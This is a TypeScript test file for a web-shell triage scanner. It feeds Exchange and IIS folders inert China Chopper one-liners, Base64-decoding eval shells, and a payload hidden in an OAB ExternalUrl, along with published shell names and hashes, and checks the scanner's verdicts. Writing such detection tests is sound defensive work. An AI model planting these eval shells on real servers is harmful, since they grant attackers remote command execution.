/**
 * Web shells as they were found, as inert text (never run): China Chopper whatever its quoting, eval of Base64-decoded
 * input (the AntSword-style shells GTSC reported in 2022), the China Chopper line in an OAB virtual directory's
 * ExternalUrl (CISA AR21-084A), published names and hashes. In an Exchange or IIS web folder a signature match is
 * `compromised` on its own; the same text elsewhere is `suspicious`; stock Exchange files give nothing.
 */
import { copyFileSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { PROXYLOGON_TRACES as T } from "../../bench/triage/synth.js";
import { triage } from "../../src/triage/scan.js";
import { buildBundle } from "./bundleFixture.js";

let tmp: string;
let n = 0;
const STOCK = path.resolve(__dirname, "fixtures/stock");
const OWA_AUTH = "files/C/Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth";

/**
 * Inert web shell texts written from the published descriptions. Each is one line a file would hold; none is run.
 */
const SHELLS: Record<string, { text: string; rule: string; also?: string }> = {
  "China Chopper, double quotes (Microsoft, Volexity)": { text: T.chinaChopper, rule: "yara:Vigie_Webshell_ChinaChopper_Aspx" },
  "China Chopper, language='JScript' and 'unsafe'": { text: "<%@ Page Language='JScript'%><%eval(Request.Item['orange'],'unsafe');%>\r\n", rule: "yara:Vigie_Webshell_ChinaChopper_Aspx" },
  "China Chopper, unquoted language, no 'unsafe'": { text: "<%@ Page Language=Jscript %><% eval (Request.Item[\"z\"]); %>\r\n", rule: "yara:Vigie_Webshell_ChinaChopper_Aspx" },
  "China Chopper in a server script block, Request.Form": {
    text: '<script language="JScript" runat="server">function Page_Load(){eval(Request.Form["k"],"unsafe");}</script>\r\n',
    rule: "yara:Vigie_Webshell_ChinaChopper_Aspx",
  },
  "eval of Base64-decoded input (AntSword style, GTSC 2022)": {
    text: '<%@ Page Language="Jscript" Debug=true%><%eval(System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String(Request.Item["z9"])),"unsafe");%>\r\n',
    rule: "yara:Vigie_Webshell_Eval_Base64_Input",
  },
  "eval of Base64-decoded input, single quotes": {
    text: "<%@ Page Language='Jscript'%><%var c=Request.Item['z9'];eval(System.Text.Encoding.GetEncoding(936).GetString(System.Convert.FromBase64String(c)),'unsafe');%>\r\n",
    rule: "yara:Vigie_Webshell_Eval_Base64_Input",
  },
  "OAB virtual directory settings with China Chopper in ExternalUrl (CISA AR21-084A)": {
    text: [
      "Name                            : OAB (Default Web Site)",
      "PollInterval                    : 480",
      "OfflineAddressBooks             : ",
      "InternalUrl                     : https://ex01.contoso.local/OAB",
      "ExternalUrl                     : http://f/<script language='JScript' runat='server'>function Page_Load(){eval(Request['orange'],'unsafe');}</script>",
      "",
    ].join("\r\n"),
    rule: "yara:Vigie_Webshell_OAB_ExternalUrl_Script",
    also: "yara:Vigie_Webshell_ChinaChopper_Aspx",
  },
};

beforeAll(() => {
  tmp = mkdtempSync(path.join(tmpdir(), "vigie-webshells-"));
});
afterAll(() => rmSync(tmp, { recursive: true, force: true }));

/** A clean bundle (benign twins included) plus the given files. */
function bundleWith(files: Record<string, string | Buffer>): string {
  const root = path.join(tmp, `b${++n}`);
  buildBundle(root, false);
  for (const [rel, data] of Object.entries(files)) {
    mkdirSync(path.dirname(path.join(root, rel)), { recursive: true });
    writeFileSync(path.join(root, rel), data);
  }
  return root;
}

describe("web shells", () => {
  for (const [what, s] of Object.entries(SHELLS)) {
    it(`${what}: compromised in owa/auth under a stock name, suspicious outside a web folder`, async () => {
      // a stock name (GTSC found a shell in RedirSuiteServiceProxy.aspx): no path or name rule can help, only the content
      const inWeb = await triage(bundleWith({ [`${OWA_AUTH}/RedirSuiteServiceProxy.aspx`]: s.text }));
      expect(inWeb.verdict).toBe("compromised");
      const rules = [s.rule, ...(s.also ? [s.also] : [])].sort();
      expect(inWeb.findings.map((f) => `${f.rule} ${f.effect}`).sort()).toEqual(rules.map((r) => `${r} compromised`));
      const elsewhere = await triage(bundleWith({ "files/C/Users/analyst/samples/sample.aspx": s.text }));
      expect(elsewhere.findings.map((f) => `${f.rule} ${f.effect}`).sort()).toEqual(rules.map((r) => `${r} suspicious`));
      expect(elsewhere.verdict).toBe("suspicious");
    });
  }

  it("a China Chopper written as an .aspx in aspnet_client is compromised by name and content; the name heuristic stays suspicious", async () => {
    const r = await triage(bundleWith({ "files/C/inetpub/wwwroot/aspnet_client/x7.aspx": SHELLS["China Chopper, language='JScript' and 'unsafe'"]!.text }));
    expect(r.verdict).toBe("compromised");
    const byRule = new Map(r.findings.map((f) => [f.rule, f.effect]));
    expect(byRule.get("yara:Vigie_Webshell_ChinaChopper_Aspx")).toBe("compromised");
    expect(byRule.get("webshell.unexpected-script-in-webroot")).toBe("suspicious");
  });

  it("published names and hashes: GTSC's owa/auth shells, CISA's OAB-config shells", async () => {
    const gtscHash = "65a002fe655dc1751add167cf00adf284c080ab2e97cd386881518d3a31d27f5";
    const rows = [
      '"Path","Length","LastWriteTimeUtc","SHA256"',
      `"C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\RedirSuiteServiceProxy.aspx","1700","2022-08-20T03:11:00Z","${gtscHash.toUpperCase()}"`,
      `"C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\pxh4HG1v.ashx","900","2022-08-20T03:12:00Z",""`,
      `"C:\\inetpub\\wwwroot\\aspnet_client\\supp0rt.aspx","2318","2021-03-03T06:00:00Z","695D4A81CE526A136351CD8EEBA5C452D0AB79438FE467922A0BD61DB87CEF93"`,
    ];
    const r = await triage(bundleWith({ "listings/webroots.csv": `${rows.join("\r\n")}\r\n` }));
    expect(r.verdict).toBe("compromised");
    const at = (line: number): string[] => r.findings.filter((f) => f.line === line && f.file === "listings/webroots.csv").map((f) => f.rule).sort();
    expect(at(2)).toEqual(["webshell.known-sha256.cisa-gtsc"]);
    expect(at(3)).toEqual(["webshell.known-path.gtsc", "webshell.unexpected-script-in-webroot"]);
    expect(at(4)).toEqual(["webshell.known-path.mstic", "webshell.known-sha256.cisa-gtsc", "webshell.unexpected-script-in-webroot"]);
  });

  it("stock Exchange files give nothing: real OWA logon page, flogon.js, logon.css, and every stock owa/ecp auth file of 15.1.2176.2", async () => {
    const page = readFileSync(path.join(STOCK, "owa-logon-page-15.1.1466.html"));
    const root = bundleWith({
      [`${OWA_AUTH}/logon.aspx`]: page,
      [`${OWA_AUTH}/15.1.2176/scripts/premium/flogon.js`]: readFileSync(path.join(STOCK, "flogon.js.txt")),
      [`${OWA_AUTH}/15.1.2176/themes/resources/logon.css`]: readFileSync(path.join(STOCK, "logon.css")),
      [`${OWA_AUTH}/RedirSuiteServiceProxy.aspx`]: '<%@ Page Language="C#" AutoEventWireup="true" Inherits="Microsoft.Exchange.HttpProxy.RedirSuiteServiceProxy" %>\r\n',
      [`${OWA_AUTH}/svmfeedback.aspx`]: '<%@ Page Language="C#" Inherits="Microsoft.Exchange.HttpProxy.SvmFeedback" %>\r\n',
      // benign server code that decodes Base64 from a request without any eval (a pattern common in real C# code)
      "files/C/inetpub/wwwroot/app/Upload.cs": "var bytes = System.Convert.FromBase64String(request.Picture1);\r\nvar text = System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String(Request.Headers[\"Authorization\"]));\r\n",
    });
    copyFileSync(path.join(STOCK, "webroots-15.1.2176.2.csv"), path.join(root, "listings", "webroots.csv"));
    const r = await triage(root);
    expect(r.findings).toEqual([]);
    expect(r.verdict).toBe("no-indicators");
    expect(r.stats.yaraFiles).toBeGreaterThanOrEqual(6);
    expect(r.stats.listedFiles).toBeGreaterThan(50);
  });
});
